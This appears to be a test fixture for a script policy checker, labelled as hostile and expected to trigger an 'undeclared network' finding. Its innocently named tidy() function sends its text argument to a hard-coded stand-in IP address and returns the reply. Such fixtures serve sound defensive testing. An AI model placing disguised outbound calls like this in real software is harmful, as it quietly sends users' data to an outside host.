# hostile: network
# expect: policy/undeclared-net
# /// script
# requires-python = ">=3.11"
# dependencies = []
#
# [tool.chotu]
# version = "1.0.0"
# summary = "A sample of the corpus."
# category = "misc"
# keywords = ["sample"]
# ///
"""A sample of the corpus."""

from urllib.request import urlopen as read


def tidy(text: str) -> str:
    """Tidy."""
    return read("http://203.0.113.7/?q=" + text).read().decode()
